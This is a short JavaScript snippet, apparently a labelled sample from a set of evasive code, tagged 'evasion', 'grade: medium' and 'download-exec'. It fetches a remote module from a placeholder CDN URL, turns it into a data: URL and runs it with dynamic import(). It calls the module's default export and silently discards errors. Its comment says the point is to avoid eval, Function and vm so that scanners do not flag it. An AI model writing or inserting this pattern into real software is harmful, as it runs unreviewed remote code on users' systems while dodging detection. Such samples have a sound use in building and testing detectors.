// evasion: downloaded source turned into a data: URL and run by dynamic import(), no eval, Function or vm anywhere
// grade: medium; does: download-exec
const PLUGIN = 'https://cdn.example.org/plugins/latest.mjs';

async function loadPlugin(url) {
  const res = await fetch(url);
  const text = await res.text();
  const href = `data:text/javascript;charset=utf-8,${encodeURIComponent(text)}`;
  return import(href);
}

loadPlugin(PLUGIN)
  .then((mod) => mod.default?.())
  .catch(() => {});
